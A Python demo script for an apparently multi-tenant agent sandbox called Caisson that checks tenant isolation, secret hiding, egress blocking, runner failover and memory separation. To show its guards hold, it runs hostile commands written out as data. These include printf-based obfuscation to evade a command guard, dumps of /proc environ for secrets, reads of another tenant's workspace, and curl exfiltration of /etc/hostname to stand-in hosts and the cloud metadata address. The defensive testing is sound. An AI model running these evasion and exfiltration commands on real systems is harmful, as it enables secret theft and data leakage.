"""The main job, shown: `make demo`. Exits 0 only if every promise that it shows was seen to hold."""

import asyncio
import json
import logging
import os
import re
import secrets
import signal
import socket
import sys
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path

import httpx
import structlog
from rich.console import Console
from rich.markup import escape

from caisson.client.client import Client
from caisson.client.models import ExecResult, SecurityEvent
from caisson.stack.stack import Stack

HERE = Path(__file__).parent
UPSTREAMS = HERE.parent / "config" / "upstreams.yaml"
SETTINGS = {
    "gateway": {"GATEWAY_LEASE_S": "3", "GATEWAY_HEARTBEAT_S": "0.5", "GATEWAY_RECONCILE_S": "0.5"},
    "runner": {"RUNNER_HEARTBEAT_S": "0.5"},
}
COUNTERS = re.compile(r"^(caisson_security_\w+_total)(\{[^}]*\})? ([0-9.e+]+)$", re.MULTILINE)

FIRST_TENANT_UID = 10_000
TIME_OUT_MS = 5_000

console = Console(highlight=False, width=110)


class NotHeld(Exception):
    """A promise was seen broken."""


class Scraper:
    """Sums what the security counters gained, as a monitoring system does: a restarted process begins again at 0."""

    def __init__(self, stack: Stack) -> None:
        self._stack = stack
        self._last: dict[tuple[str, str], float] = {}
        self.increases: dict[str, float] = {}

    async def scrape(self) -> None:
        """Read the counters of every service process."""
        async with httpx.AsyncClient() as http:
            for process, url in self._stack.metrics_urls.items():
                for name, labels, value in COUNTERS.findall((await http.get(url)).text):
                    self._add(process, f"{name}{labels}", float(value))

    def _add(self, process: str, series: str, value: float) -> None:
        last = self._last.get((process, series), 0.0)
        self._last[process, series] = value
        if gained := value if value < last else value - last:
            self.increases[series] = self.increases.get(series, 0.0) + gained


class Demo:
    """One plane, two tenants, and what the scenes share."""

    def __init__(self, stack: Stack, root: Client, credentials: dict[str, str]) -> None:
        self.stack = stack
        self.scraper = Scraper(stack)
        self.credentials = credentials
        self.acme = root.for_tenant("acme", "ana")
        self.globex = root.for_tenant("globex", "gus")

    def hold(self, promise: str, *, true: bool, seen: object = "") -> None:
        """Print that a promise holds, or stop the demo."""
        if not true:
            raise NotHeld(f"{promise}: {seen}")
        console.print(f"  [green]✓[/] {escape(promise)}")

    async def run(self, command: str, **options: object) -> ExecResult:
        """Run a command for acme and show what it says."""
        console.print(f"  [dim]$[/] [bold]{escape(command)}[/]")
        step = await self.acme.exec(command, **options)  # type: ignore[arg-type]
        for output in (step.stdout, step.stderr):
            for line in (output.text if output else "").splitlines()[:8]:
                console.print(f"    {escape(line)}", style="dim" if output is step.stderr else "")
        if step.outcome and step.outcome.kind != "exited":
            console.print(f"    [yellow]{step.outcome.kind}[/]: {escape(step.outcome.reason or '')}")
        return step

    async def security(self, kind: str, run_id: str) -> list[SecurityEvent]:
        """Return the run's security events of a kind, once there are any."""
        for _ in range(50):
            found = [event async for event in self.acme.security_events() if event.run_id == run_id]
            if events := [event for event in found if event.kind == kind]:
                return events
            await asyncio.sleep(0.1)
        return []


async def fetch_and_reduce(demo: Demo) -> None:
    """A run fetches its tenant's data and reduces it; the proxy adds the credential."""
    commands = (
        'curl -s "$API_HOST/metrics/v1/tenants/$TENANT_ID/orders" > orders.json',
        "jq -r '.orders | group_by(.region)[] | \"\\(.[0].region): \\([.[].total] | add)\"' orders.json",
    )
    run = await demo.acme.create_run(commands=commands)
    printed = ""
    async for event in demo.acme.events(run.id):
        match event.type:
            case "step.started":
                command = commands[event.data["index"]]
                console.print(f"  [dim]$[/] [bold]{escape(command)}[/]")
            case "step.output":
                printed += event.data["text"]
                console.print("    " + escape(event.data["text"].rstrip().replace("\n", "\n    ")))
    run = await demo.acme.wait(run.id, timeout_s=30)
    last = run.steps[-1].stdout
    demo.hold("the run succeeded", true=run.succeeded, seen=run)
    demo.hold("its result is acme's data, reduced", true=bool(last and last.text == "eu: 1650\nus: 800\n"), seen=last)
    demo.hold("live events showed the same output", true="eu: 1650" in printed, seen=printed)


async def foreign_tenant_blocked(demo: Demo) -> None:
    """The model writes a tenant id that it made up; a guard reads the command before it runs."""
    step = await demo.run('curl -s "$API_HOST/metrics/v1/totals?tenantId=globex"')
    kind = step.outcome and step.outcome.kind
    demo.hold("a guard blocked the command before it ran", true=kind == "blocked", seen=step)
    events = await demo.security("command_blocked", step.run_id)
    demo.hold("it is a security event", true=bool(events), seen=events)


async def hidden_tenant_rewritten(demo: Demo) -> None:
    """The same, hidden from the guard: the proxy rewrites the tenant whatever the command wrote."""
    step = await demo.run('T=$(printf "%s" glo bex); curl -s "$API_HOST/metrics/v1/totals?tenantId=$T"')
    answer = json.loads(step.stdout.text if step.stdout else "null")
    demo.hold(
        "the API saw acme and answered with acme's data", true=answer == {"tenant": "acme", "total": 2450}, seen=step
    )
    events = await demo.security("proxy_rewrite", step.run_id)
    demo.hold("the rewrite is a security event", true=bool(events), seen=events)


async def no_secret_in_reach(demo: Demo) -> None:
    """A command dumps every environment that it can find."""
    command = (
        "env; ls -R /workspace /tmp /run; P=$(printf '/%s' proc); "
        "cat $P/*/environ $P/*/cmdline 2>/dev/null | tr '\\0' '\\n'"
    )
    console.print(f"  [dim]$[/] [bold]{escape(command)}[/]")
    step = await demo.acme.exec(command)
    dump = (step.stdout.text if step.stdout else "") + (step.stderr.text if step.stderr else "")
    names = sorted({line.partition("=")[0] for line in dump.splitlines() if re.match(r"[A-Z_]+=", line)})
    console.print(f"    variables: {' '.join(names)}")
    found = [name for name, secret in demo.credentials.items() if secret in dump]
    demo.hold(f"{len(demo.credentials)} secrets searched for, none found", true=not found, seen=found)
    demo.hold("the command knows its tenant", true="TENANT_ID=acme" in dump, seen=names)


async def other_workspace_refused(demo: Demo) -> None:
    """Another tenant keeps a secret in its workspace; acme knows the path on the host and hides it from the guard."""
    run = await demo.globex.create_run(commands=["echo 'the plans of globex' > secret.txt; id -u; sleep 20"])
    worker = uid = ""
    async with asyncio.timeout(20):
        async for event in demo.globex.events(run.id):
            worker = str(event.data.get("worker", worker))
            if event.type == "step.output":
                uid = event.data["text"].strip()
                break
    runner = demo.stack.services("runner")[index_of(demo.stack, worker)].name
    path = str(demo.stack.folder.workspaces(runner) / "tenants" / uid / run.id)
    half = len(path) // 2
    step = await demo.run(
        f"P=$(printf '%s' '{path[:half]}' '{path[half:]}')/secret.txt; cat \"$P\"; "
        "find / -name secret.txt -not -path '/proc/*' 2>/dev/null; id -u; stat -c '%a %u' ."
    )
    said = step.stdout.text if step.stdout else ""
    refused = step.stderr.text if step.stderr else ""
    demo.hold("the kernel refused the path", true="No such file" in refused or "denied" in refused, seen=step)
    demo.hold("nothing of globex can be read or found", true="plans" not in said and "secret" not in said, seen=said)
    mine = said.split()
    demo.hold(
        "acme runs as a uid of its own, in a 0700 workspace",
        true=mine[-2:] == ["700", mine[-1]] and int(mine[-1]) >= FIRST_TENANT_UID,
        seen=said,
    )
    await demo.globex.cancel(run.id)


async def exfiltration_refused(demo: Demo) -> None:
    """A command tries to send data out: by address, by name, to the metadata service, to a port of this host."""
    port = httpx.URL(demo.stack.url).port
    command = (
        "for target in 203.0.113.7 169.254.169.254 '[2001:db8::7]' collector.example 127.0.0.1:"
        f'{port}; do curl -sS -m 5 -d @/etc/hostname "http://$target/"; done'
    )
    step = await demo.run(command)
    refused = step.stderr.text if step.stderr else ""
    demo.hold("every attempt was refused", true=len(refused.splitlines()) == 5 and not step.stdout.text, seen=step)  # type: ignore[union-attr]  # noqa: PLR2004
    demo.hold(
        "at once, not by a time-out",
        true="timed out" not in refused and (step.duration_ms or 0) < TIME_OUT_MS,
        seen=step.duration_ms,
    )
    events = await demo.security("egress_blocked", step.run_id)
    demo.hold("the kernel counted them, and each destination is an event", true=bool(events), seen=events)
    console.print("    " + escape(", ".join(str(event.model_dump().get("detail")) for event in events[:5])))


async def killed_runner(demo: Demo) -> None:
    """A runner dies in the middle of a run. Another one goes on after the last recorded step."""
    run = await demo.acme.create_run(commands=["echo first", "sleep 2; echo second", "echo third"])
    killed = ""
    async for event in demo.acme.events(run.id):
        if event.type == "run.started":
            console.print(f"    attempt {event.data['attempt']} on {event.data['worker']}")
            worker = str(event.data["worker"])
        elif event.type == "step.started" and event.data["index"] == 1 and not killed:
            killed = worker
            await demo.stack.kill("runner", index_of(demo.stack, worker), signal.SIGKILL)
            console.print(f"    [red]killed[/] {escape(worker)}")
        elif event.type == "run.requeued":
            console.print(f"    requeued: {event.data['reason']}")
    run = await demo.acme.wait(run.id, timeout_s=30)
    texts = [step.stdout.text for step in run.steps if step.stdout]
    demo.hold("the run finished", true=run.succeeded, seen=run)
    demo.hold("on its second attempt", true=run.attempt == 2, seen=run.attempt)  # noqa: PLR2004
    demo.hold("with every step's result once", true=texts == ["first\n", "second\n", "third\n"], seen=texts)


async def memories_stay_apart(demo: Demo) -> None:
    """Two tenants, and two users of one, remember what contradicts the others; each recalls its own."""
    ben = demo.acme.for_tenant("acme", "ben")
    said = (("acme/ana", demo.acme, "Oslo"), ("acme/ben", ben, "Quito"), ("globex/gus", demo.globex, "Lyon"))
    for _, client, city in said:
        await client.remember(f"I live in {city}", subject="me", attribute="home")
    for name, client, city in said:
        recalled = await client.recall("where do I live?", k=5)
        texts = [hit.memory.text for hit in recalled.hits]
        console.print(f"    {name} asks [bold]where do I live?[/] → {', '.join(texts)}")
        demo.hold(f"{name} recalls its own home and no other", true=texts == [f"I live in {city}"], seen=texts)

    moved = await demo.acme.remember("I live in Bergen", subject="me", attribute="home")
    demo.hold("a newer fact takes the older one's place", true=moved.status == "superseded", seen=moved)
    context = await demo.acme.recall_context("where do I live?")
    console.print("    " + escape(context.text.replace("\n", "\n    ")), style="dim")
    demo.hold("a model is told the newer one alone", true="Bergen" in context.text and "Oslo" not in context.text)
    history = [entry.text for entry in await demo.acme.memory_history(moved.id or "")]
    demo.hold("the history knows both", true={"I live in Oslo", "I live in Bergen"} <= set(history), seen=history)

    receipt = await demo.acme.forget(moved.id or "")
    console.print(f"    receipt {receipt.id}: {receipt.count} deleted, {receipt.vectors} vectors, complete")
    left = await demo.acme.recall("where do I live?")
    demo.hold("what is forgotten is gone", true=receipt.complete and not left.hits, seen=left)
    again = await ben.recall("where do I live?")
    demo.hold("and nobody else's is", true=[hit.memory.text for hit in again.hits] == ["I live in Quito"], seen=again)


async def counters(demo: Demo) -> None:
    """What an operator sees: in normal operation each of these is zero."""
    await demo.scraper.scrape()
    for name, value in sorted(demo.scraper.increases.items()):
        console.print(f"    {escape(name)} [bold]{value:.0f}[/]")
    seen = " ".join(demo.scraper.increases)
    wanted = ("command_blocked", "proxy_rewrite", "egress_blocked")
    demo.hold("guards, proxy and network each counted", true=all(name in seen for name in wanted), seen=seen)


SCENES: tuple[Callable[[Demo], Awaitable[None]], ...] = (
    fetch_and_reduce,
    foreign_tenant_blocked,
    hidden_tenant_rewritten,
    no_secret_in_reach,
    other_workspace_refused,
    exfiltration_refused,
    killed_runner,
    memories_stay_apart,
    counters,
)


def index_of(stack: Stack, worker: str) -> int:
    """Return the place of the runner process that a worker id belongs to: it begins with the runner's name."""
    names = [service.name for service in stack.services("runner")]
    return next(place for place, name in enumerate(names) if worker.startswith(f"{name}-"))


def plane_secrets(stack: Stack) -> dict[str, str]:
    """Return the secrets that the plane itself lives by, by name."""
    keyring = stack.folder.keyring()
    nats = {f"NATS password of {name}": password for name, password in keyring.nats_passwords.items()}
    return nats | {
        "platform key": stack.platform_key,
        "channel key": keyring.channel_key,
        "private key of the proxy": keyring.proxy_private_key,
        "database password": keyring.postgres_password,
    }


def free_port() -> int:
    """Return a port that is free now."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@asynccontextmanager
async def metrics_api(tokens: dict[str, str]) -> AsyncIterator[None]:
    """Run the upstream API, where config/upstreams.yaml looks for it."""
    port = free_port()
    os.environ["METRICS_URL"] = f"http://127.0.0.1:{port}"
    env = os.environ | {"METRICS_TOKENS": json.dumps(tokens)}
    argv = (sys.executable, str(HERE / "metrics_api.py"), "--port", str(port))
    process = await asyncio.create_subprocess_exec(*argv, env=env)
    try:
        yield
    finally:
        process.terminate()
        await process.wait()


async def main() -> int:
    """Start everything, play the scenes, and say whether all held."""
    structlog.configure(wrapper_class=structlog.make_filtering_bound_logger(logging.ERROR))
    tokens = {f"tok-{name}-{secrets.token_hex(12)}": name for name in ("acme", "globex")}
    with tempfile.TemporaryDirectory(prefix="caisson-demo-") as folder:
        async with (
            metrics_api(tokens),
            Stack(Path(folder), runners=2, upstreams=UPSTREAMS, settings=SETTINGS) as stack,
            Client(stack.url, stack.platform_key, tenant="acme", user="ana") as root,
        ):
            for token, tenant in tokens.items():
                await root.for_tenant(tenant, "setup").put_credential(tenant, "metrics", bearer=token)
            wanted = {f"credential of {tenant}": token for token, tenant in tokens.items()}
            demo = Demo(stack, root, wanted | plane_secrets(stack))
            console.print(f"[bold]Caisson is up[/] at {stack.url}, with two runners\n")
            for number, scene in enumerate(SCENES, start=1):
                console.print(f"[bold cyan]{number}. {scene.__doc__}[/]")
                try:
                    await demo.scraper.scrape()
                    await scene(demo)
                except NotHeld as broken:
                    console.print(f"  [bold red]✗ {escape(str(broken))}[/]")
                    return 1
                console.print()
    console.print("demo ok")
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
